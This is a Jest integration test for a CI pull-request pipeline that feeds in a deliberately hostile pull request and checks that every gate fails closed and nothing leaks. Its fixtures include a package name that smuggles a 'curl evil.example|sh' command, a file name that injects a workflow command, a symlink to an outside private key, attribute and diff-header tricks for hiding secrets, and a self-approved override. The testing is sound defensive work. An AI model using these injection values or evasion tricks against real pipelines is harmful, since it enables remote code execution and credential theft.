/**
 * A hostile pull request through the whole PR pipeline (every job's built
 * bundle under runner-sim, one fake GitHub, one fake cache), as the security
 * review (#13) asked: it changes `.gitattributes`, CODEOWNERS, the risk model
 * and the policy, commits symlinks that point out of the workspace, hides a
 * secret behind a decoy diff header and behind its own attributes, names a
 * package `c;$(curl …|sh);#`, puts a CR followed by a workflow command in a
 * file name, and its author overrides the block on their own PR.
 *
 * Every gate must fail closed, the health check must be a failure, and no
 * secret, outside file or injected command may surface anywhere.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { FakeCacheService, FakeGitHub, GitFixture, pullRequestEvent, runPrPipeline, sampleMonorepo, type RunResult } from '@maestro/harness';

const root = path.resolve('.');
const REPO = { owner: 'acme', name: 'shop' };
const FULL = 'acme/shop';
// Well-formed credentials of known formats; not real ones.
const TOKEN = ['ghp', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('_');
const TOKEN2 = ['ghp', 'Zx9Qm2Lr8Kt4Vw6Yb1Nc3Pd5Fg7Hj0Sa2Ue4'].join('_');
const OUTSIDE_SECRET = 'OUTSIDE-THE-WORKSPACE-ssh-rsa-AAAAB3NzaC1yc2E';
const CR_NAME = 'packages/web/src/notes\r::error title=pwned::injected by a file name.md';

let fx: GitFixture;
let gh: FakeGitHub;
let cache: FakeCacheService;
let outside: string;

beforeAll(async () => {
  fx = GitFixture.create();
  [gh, cache] = await Promise.all([FakeGitHub.start(), FakeCacheService.start()]);
  outside = mkdtempSync(path.join(tmpdir(), 'outside-workspace-'));
  writeFileSync(path.join(outside, 'id_rsa'), `${OUTSIDE_SECRET}\n`);
  sampleMonorepo(fx);
  // The base branch: secrets are scanned, CODEOWNERS names the team that reviews payments code.
  fx.commit('policy: secrets and owners', {
    'policy/rules.yaml': `${readFileSync(path.join(fx.work, 'policy/rules.yaml'), 'utf8')}secrets:\n  mode: enforce\n`,
    '.github/CODEOWNERS': '*  @lead\n/packages/api/  @acme/payments\n',
  });
  fx.push('main');
  gh.addRepo(FULL);
  gh.setPermission(FULL, 'lead', 'write');
});

afterAll(async () => {
  await Promise.all([gh?.stop(), cache?.stop()]);
  fx?.dispose();
  if (outside) rmSync(outside, { recursive: true, force: true });
});

describe('a hostile pull request through the whole pipeline', () => {
  test('every gate fails closed; the health check is a failure; nothing leaks, nothing is injected', async () => {
    const author = (pullRequestEvent({ repo: REPO, number: 1, base: 'a'.repeat(40), head: 'b'.repeat(40), merge: 'c'.repeat(40) }).payload['pull_request'] as { user: { login: string } }).user.login;
    fx.checkout('main');
    fx.branch('feature/innocent');
    const code = Array.from({ length: 300 }, (_, i) => `export const v${i} = ${i};`).join('\n') + '\n';
    const engine = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`packages/api/src/engine/part${i}.ts`, code]));
    fx.commit('small refactor', {
      // Attributes that would make the gates see "binary, 0 lines" and skip the secret scan.
      '.gitattributes': '*.ts -diff\n*.cfg binary\n',
      // Its own reviewers, its own model (every weight 0), and a policy without the infra rule.
      '.github/CODEOWNERS': `*  @${author}\n`,
      'policy/risk-model.json': JSON.stringify({ kind: 'maestro-risk-model', version: 1, features: ['la'], weights: [0], mean: [0], std: [1], intercept: -40, provenance: { source: 'mine' } }),
      'policy/rules.yaml': 'version: 1\nmode: observe\n',
      'infra/main.tf': 'resource "aws_iam_user" "backdoor" {}\n',
      ...engine,
      // A secret after an added line that reads "++ b/other" (shown as a "+++ b/other" header).
      'packages/web/src/config.ts': `export const a = 1;\n++ b/other\nexport const token = "${TOKEN}";\n`,
      'app/settings.cfg': `token=${TOKEN2}\n`,
      // A package whose name is shell code.
      'packages/evil/package.json': JSON.stringify({ name: 'c;$(curl -s evil.example|sh);#', version: '1.0.0', scripts: { build: 'true' } }),
      // A file name that carries a CR and a workflow command.
      [CR_NAME]: 'notes\n',
      // Timings committed as a symlink to a private file outside the workspace.
      'ci/test-timings.json': { symlink: path.join(outside, 'id_rsa') },
    });
    const pr = fx.pullRequest(48213, 'main', 'feature/innocent');
    gh.addPull(FULL, { number: 48213, headSha: pr.head, baseSha: pr.base, headRef: 'feature/innocent', author });
    gh.setPermission(FULL, author, 'write');
    // The author approves their own block, for this very commit.
    gh.addToken('tok_author', { login: author, kind: 'user' });
    const res = await fetch(`${gh.url}/repos/${FULL}/issues/48213/comments`, { method: 'POST', headers: { authorization: 'token tok_author', 'content-type': 'application/json', accept: 'application/vnd.github+json' }, body: JSON.stringify({ body: `/maestro override infra-frozen sha: ${pr.head.slice(0, 12)} reason: trust me` }) });
    expect(res.status).toBe(201);

    const r = await runPrPipeline({ root, fx, gh, cache, repo: REPO, number: 48213, pr, headRef: 'feature/innocent', runId: 16823450912 });
    const job = (id: string) => r.jobs.find((j) => j.id === id)!.result;
    const all: RunResult[] = [...r.jobs.map((j) => j.result), r.health];

    // affected: the package name is refused at its manifest, before it can reach any output.
    expect(job('affected').conclusion).toBe('failure');
    expect(job('affected').log).toMatch(/packages\/evil\/package\.json: project name "c;\$\(curl -s evil\.example\|sh\);#" is not a valid package name/);
    expect(Object.values(job('affected').outputs).join('\n')).not.toContain('curl');

    // allocate-shards: the plan job needs affected, so the template skips it (its symlinked timings file is
    // refused on its own in allocate-shards.test.ts); health reports its evidence missing below.
    expect(r.workflow.jobs.find((j) => j.id === 'plan')!.result).toBe('skipped');
    expect(r.workflow.jobs.find((j) => j.id === 'test')!.result).toBe('skipped');

    // risk-score: the base's model and CODEOWNERS; the PR's attributes do not shrink the change.
    const risk = job('risk-score');
    expect(risk.conclusion).toBe('success');
    expect(JSON.parse(risk.outputs['model']!).source).toBe('default (four public JIT data sets)');
    expect(risk.annotations.some((a) => /policy\/risk-model\.json is added by the change under review and is not used/.test(a.message))).toBe(true);
    expect(risk.summary).toMatch(/\| la \| 36\d\d \|/);
    expect(risk.outputs['level']).toBe('high');
    expect(JSON.parse(risk.outputs['reviewers']!)).toEqual({ users: ['lead'], teams: ['payments'] });

    // policy-gate: judged by the base's rules; the secrets are found; the self-override is refused.
    const policy = job('policy-gate');
    expect(policy.conclusion).toBe('failure');
    const decision = JSON.parse(policy.outputs['decision']!) as { violations: Array<{ rule: string; subject: string; mode: string }>; overrides: Array<{ status: string; note: string }> };
    expect(decision.violations.filter((v) => v.mode === 'enforce').map((v) => `${v.rule} ${v.subject}`).sort()).toEqual(['infra-frozen infra/main.tf', 'no-secrets app/settings.cfg:1', 'no-secrets packages/web/src/config.ts:3']);
    expect(decision.overrides).toEqual([expect.objectContaining({ status: 'refused', note: expect.stringMatching(/is the pull request's author/) })]);

    // health: required evidence is missing (affected, allocate-shards) and policy blocks: a failure, posted.
    expect(r.health.outputs['conclusion']).toBe('failure');
    const check = gh.checkRuns(FULL).find((c) => c['head_sha'] === pr.head)!;
    expect(check['conclusion']).toBe('failure');
    const comment = String(gh.comments(FULL, 48213).find((c) => String(c['body']).includes('maestro:health'))!['body']);
    expect(comment).toContain('## Maestro health: ❌ blocked');
    expect(comment).toContain('**affected evidence missing**');
    expect(comment).toContain('**allocate-shards evidence missing**');

    // Nothing leaks and nothing is injected, in any job: logs, summaries, outputs, annotations, the comment, the check run.
    const everything = [...all.flatMap((x) => [x.log, x.summary, ...Object.values(x.outputs), ...x.annotations.map((a) => `${a.title ?? ''} ${a.message}`)]), comment, JSON.stringify(check)].join('\n');
    for (const secret of [TOKEN, TOKEN2, OUTSIDE_SECRET]) expect(everything).not.toContain(secret);
    for (const x of all) {
      expect(x.annotations.filter((a) => a.title === 'pwned' || /injected by a file name/.test(a.message))).toEqual([]);
      expect(x.masks).toEqual([]);
      expect(x.violations).toEqual([]);
    }
    gh.assertNoViolations();
  }, 240_000);
});
